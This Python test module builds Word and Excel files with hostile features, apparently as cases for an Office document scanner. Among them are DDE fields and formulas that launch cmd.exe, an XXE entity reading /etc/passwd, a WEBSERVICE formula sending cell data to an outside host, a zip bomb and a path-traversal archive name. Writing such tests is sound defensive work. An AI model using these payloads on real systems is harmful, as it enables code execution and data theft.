"""Word and Excel files that run, fetch or hide something, each in another way."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from tests.documents import OFFICE, office, picture, relations

W, X = "word/document.xml", "xl/workbook.xml"
RELS = "word/_rels/document.xml.rels"
XRELS = "xl/_rels/workbook.xml.rels"
MACRO, LINKED, OTHER, DAMAGED, TOO_BIG, KIND = (
    "macro",
    "van buiten",
    "ander bestand",
    "beschadigd",
    "te groot",
    "soort",
)


def pointing(kind: str, target: str, outside: bool = True, main: str = W) -> bytes:
    """A file with one relationship of its main part."""
    return office(main, {RELS if main == W else XRELS: relations((kind, target, outside))})


def field(*pieces: str) -> bytes:
    """A field whose code stands in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return office(inside=f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar/></w:r>')


def formula(text: str) -> bytes:
    return office(X, {"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{text}</f></c></worksheet>".encode()})


def part(name: str, data: bytes, kind: str = "", main: str = W) -> bytes:
    return office(main, {name: data}, types={f"/{name}": kind} if kind else None)


def archive(*files: tuple[str, bytes]) -> bytes:
    """A sound file with more in it, put there as a program would not."""
    out = io.BytesIO(office())
    with zipfile.ZipFile(out, "a") as opened:
        for name, data in files:
            opened.writestr(name, data)
    return out.getvalue()


DTD = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c SYSTEM "file:///etc/passwd">]><a>&b;&c;</a>'
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "macros by type": (
        lambda: office(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        MACRO,
    ),
    "macros of Excel by type": (
        lambda: office(X, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        MACRO,
    ),
    "macros under another name": (
        lambda: part("word/theme/plain.xml", b"x", "application/vnd.ms-office.vbaProject"),
        MACRO,
    ),
    "macros under a type by ending": (
        lambda: office(parts={"word/a.bin": b"x"}, types={"bin": "application/vnd.ms-office.VBAProject"}),
        MACRO,
    ),
    "macros by relationship": (
        lambda: pointing("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "x.png", False),
        MACRO,
    ),
    "macro sheet": (
        lambda: part("xl/s.xml", b"<a/>", "application/vnd.ms-excel.macrosheet+xml", X),
        MACRO,
    ),
    "template elsewhere": (lambda: pointing("attachedTemplate", "https://a.example/x.dotm"), LINKED),
    "template inside": (lambda: pointing("attachedTemplate", "x.dotm", False), LINKED),
    "template of strict files": (
        lambda: pointing(
            "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate", "//a/x.dotm"
        ),
        LINKED,
    ),
    "picture elsewhere": (lambda: pointing("image", "https://a.example/x.png"), LINKED),
    "picture elsewhere, not said to be": (
        lambda: pointing("image", "https://a.example/x.png", False),
        LINKED,
    ),
    "picture on a share": (lambda: pointing("image", r"\\a.example\x.png", False), LINKED),
    "picture of drawings elsewhere": (
        lambda: office(inside='<v:imagedata xmlns:v="v" src="https://a.example/x.png"/>'),
        LINKED,
    ),
    "link to a file": (lambda: pointing("hyperlink", "file:///c:/windows/x.exe"), LINKED),
    "link that is a script": (lambda: pointing("hyperlink", "javascript:x"), LINKED),
    "object elsewhere": (lambda: pointing("oleObject", "https://a.example/x.rtf"), OTHER),
    "object inside": (lambda: pointing("oleObject", "embeddings/x.bin", False), OTHER),
    "object in the text": (lambda: office(inside="<w:object/>"), OTHER),
    "object by its bytes": (lambda: part("word/media/a.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), OTHER),
    "file inside": (lambda: pointing("package", "embeddings/x.xlsx", False), OTHER),
    "file inside by type": (
        lambda: part("word/embeddings/x.xlsx", b"x", f"{OFFICE}spreadsheetml.sheet"),
        OTHER,
    ),
    "program called a picture": (lambda: part("word/media/a.png", b"MZ\x90\x00"), OTHER),
    "part of no kind": (lambda: part("word/a.dat", b"\x00\x01"), OTHER),
    "script beside it": (lambda: part("word/a.js", b"WScript.Echo(1)"), OTHER),
    "other document brought in": (lambda: pointing("aFChunk", "a.html", False), OTHER),
    "other document by its place": (lambda: office(inside="<w:altChunk/>"), OTHER),
    "part document": (lambda: pointing("subDocument", "file:///a.docx"), OTHER),
    "frame": (lambda: pointing("frame", "https://a.example"), LINKED),
    "control": (lambda: pointing("control", "activeX/activeX1.xml", False), MACRO),
    "control in the text": (lambda: office(inside='<w:control w:name="x"/>'), MACRO),
    "control by type": (lambda: part("word/a.xml", b"<a/>", "application/vnd.ms-office.activeX+xml"), MACRO),
    "buttons of its own": (
        lambda: pointing(
            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "c.xml", False
        ),
        MACRO,
    ),
    "add-in": (
        lambda: pointing(
            "http://schemas.microsoft.com/office/2011/relationships/webextension", "w.xml", False
        ),
        MACRO,
    ),
    "field that starts a program": (lambda: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'), LINKED),
    "field in pieces": (lambda: field(" D", "DE", " cmd x"), LINKED),
    "field written as numbers": (lambda: field("QUOTE 68 68 69"), LINKED),
    "simple field": (lambda: office(inside='<w:fldSimple w:instr=" dde cmd x"/>'), LINKED),
    "field that fetches": (lambda: field('INCLUDEPICTURE "https://a.example/x.png" \\d'), LINKED),
    "field with a link to a file": (lambda: field('HYPERLINK "file://a.example/x"'), LINKED),
    "letters from elsewhere": (lambda: office(inside="<w:mailMerge/>"), LINKED),
    "book elsewhere": (lambda: pointing("externalLink", "externalLinks/externalLink1.xml", False, X), LINKED),
    "book elsewhere by type": (
        lambda: part("xl/a.xml", b"<a/>", f"{OFFICE}spreadsheetml.externalLink+xml", X),
        OTHER,
    ),
    "program asked for a value": (lambda: part("xl/a.xml", b'<ddeLink ddeService="cmd"/>', main=X), LINKED),
    "formula that starts a program": (lambda: formula("cmd|'/c calc'!A0"), LINKED),
    "formula that fetches": (lambda: formula('_xlfn.WEBSERVICE("https://a.example/"&amp;A1)'), LINKED),
    "formula for live data": (lambda: formula('RTD("x",,"y")'), LINKED),
    "formula of a name": (
        lambda: office(X, inside="<definedNames><definedName>CALL(1)</definedName></definedNames>"),
        LINKED,
    ),
    "connections": (lambda: pointing("connections", "connections.xml", False, X), LINKED),
    "document type": (lambda: office(parts={"word/styles.xml": DTD}), DAMAGED),
    "document type in another encoding": (
        lambda: office(parts={"word/styles.xml": ("\ufeff" + DTD.decode()).encode("utf-16-le")}),
        DAMAGED,
    ),
    "document type of the list": (lambda: office(parts={"docProps/app.xml": DTD}), DAMAGED),
    "style sheet": (
        lambda: office(parts={"word/a.xml": b'<?xml-stylesheet href="https://a.example/a.xsl"?><a/>'}),
        LINKED,
    ),
    "broken XML": (lambda: office(parts={"word/a.xml": b"<a><b></a>"}), DAMAGED),
    "bomb": (lambda: office(parts={"word/a.xml": b"0" * 50_000_000}), TOO_BIG),
    "many parts": (lambda: office(parts={f"word/{number}.xml": b"<a/>" for number in range(2_100)}), TOO_BIG),
    "name that goes up": (lambda: archive(("word/../../x.xml", b"<a/>")), DAMAGED),
    "name of another system": (lambda: archive(("word\\x.xml", b"<a/>")), DAMAGED),
    "the same name twice": (lambda: archive(("word/Document.xml", b"<a/>")), DAMAGED),
    "two main parts": (
        lambda: office(parts={"a.xml": b"<a/>"}, main_type="text/xml", types={"/a.xml": "text/xml"}),
        KIND,
    ),
    "presentation": (lambda: office("ppt/presentation.xml"), KIND),
    "archive in front": (lambda: office() + office(), OTHER),
}
PLAIN: dict[str, Callable[[], bytes]] = {
    "Word": office,
    "Excel": lambda: office(X),
    "with a picture": lambda: office(
        parts={"word/media/a.png": picture("PNG"), RELS: relations(("image", "media/a.png", False))}
    ),
    "with links": lambda: office(
        parts={
            RELS: relations(
                ("hyperlink", "https://a.example/link/dde", True), ("hyperlink", "mailto:a@a.example", True)
            )
        }
    ),
    "with fields": lambda: field(' HYPERLINK "https://a.example/link" \\l "dde" '),
    "with a list of contents": lambda: field(' TOC \\o "1-3" \\h \\z \\u '),
    "with formulas": lambda: formula("SUM(A1:A9)&amp;IF(B1&gt;2,&quot;link&quot;,&quot;&quot;)"),
    "with the settings of a printer": lambda: part(
        "xl/printerSettings/printerSettings1.bin", b"\x01\x02", f"{OFFICE}spreadsheetml.printerSettings", X
    ),
}
